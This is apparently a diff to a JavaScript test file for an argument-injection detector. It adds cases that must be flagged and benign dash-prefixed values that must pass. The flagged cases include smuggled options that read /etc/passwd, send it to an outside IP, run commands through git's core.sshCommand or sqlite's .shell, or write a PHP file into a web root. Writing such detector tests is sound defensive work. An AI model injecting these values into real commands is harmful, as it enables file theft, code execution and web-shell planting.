@@ -17,6 +17,15 @@ test.each([
   '. -exec cat {} +',
   '-d auto_prepend_file=php://input',
   '-q -F file=@/etc/passwd http://203.0.113.9/',
+  '-e id',
+  '-F/tmp/x',
+  '--config=core.sshCommand=id',
+  '--script=/tmp/x.nse',
+  '-fprintf /srv/x y',
+  '.shell id',
+  '.import /etc/hosts t',
+  'allow_url_include=1',
+  'ann@example.org -X/var/www/html/x.php',
   '-froot@localhost -OQueueDirectory=/tmp -X/var/www/html/x.php',
 ])('an option that runs, reads or writes is found: %s', (value) => {
   expect(argumentInjection(value.toLowerCase())).not.toBeNull();
@@ -38,6 +47,10 @@ test.each([
   '--exec-timeout=30',
   '--shell=zsh-theme',
   '-p /usr/share/doc',
+  '-f date.txt',
+  '.shell',
+  '.open file.db',
+  'tar -o /var/www/html/x.php',
 ])('another value with a dash is none: %s', (value) => {
   expect(argumentInjection(value)).toBeNull();
 });
